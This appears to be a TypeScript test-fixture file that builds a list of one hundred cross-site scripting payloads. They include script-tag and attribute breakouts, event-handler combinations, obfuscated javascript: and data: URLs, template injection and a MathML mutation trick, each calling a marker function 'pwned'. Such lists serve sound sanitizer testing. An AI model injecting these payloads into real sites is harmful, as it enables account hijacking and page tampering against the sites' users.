/**
 * Texts that run a script where they are taken for markup, in every way a page can be built: elements, attributes, links,
 * style sheets, templates, SVG, MathML, encodings. Each would call `pwned`. Twenty of them stand first: the worst ones.
 */
const direct: readonly string[] = [
  "<script>pwned(1)</script>",
  '"><script>pwned(2)</script>',
  "'><script>pwned(3)</script>",
  "<img src=x onerror=pwned(4)>",
  '"><img src=x onerror="pwned(5)">',
  "<svg onload=pwned(6)>",
  "<svg><script>pwned(7)</script></svg>",
  "javascript:pwned(8)",
  '" onmouseover="pwned(9)" autofocus onfocus="pwned(9)" x="',
  "<iframe srcdoc='<script>parent.pwned(10)</script>'></iframe>",
  "<a href='javascript:pwned(11)'>x</a>",
  "</textarea><script>pwned(12)</script>",
  "</title><script>pwned(13)</script>",
  "</script><script>pwned(14)</script>",
  "{{constructor.constructor('pwned(15)')()}}",
  "[x](javascript:pwned(16))",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned(17)&gt;'>",
  "<details open ontoggle=pwned(18)>x</details>",
  "<style>@import 'javascript:pwned(19)';</style><link rel=stylesheet href='javascript:pwned(19)'>",
  "<object data='data:text/html,<script>pwned(20)</script>'></object>",
];

const tags = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "select autofocus",
  "marquee",
];
const events = [
  "onerror",
  "onload",
  "onfocus",
  "onpageshow",
  "onstart",
  "onanimationstart",
  "onloadstart",
  "onpointerenter",
];
const schemes = [
  "JaVaScRiPt:",
  "java\tscript:",
  " javascript:",
  "vbscript:",
  "data:text/html,<script>",
  "javascript&colon;",
  "&#106;avascript:",
  "blob:",
];

/** One hundred, all different. */
export const scriptPayloads: readonly string[] = [
  ...direct,
  ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=pwned()>`)),
  ...schemes.map((scheme) => `<a href="${scheme}pwned()">x</a>`),
  ...schemes.map((scheme) => `<form action="${scheme}pwned()"><button>x</button></form>`),
].slice(0, 100);
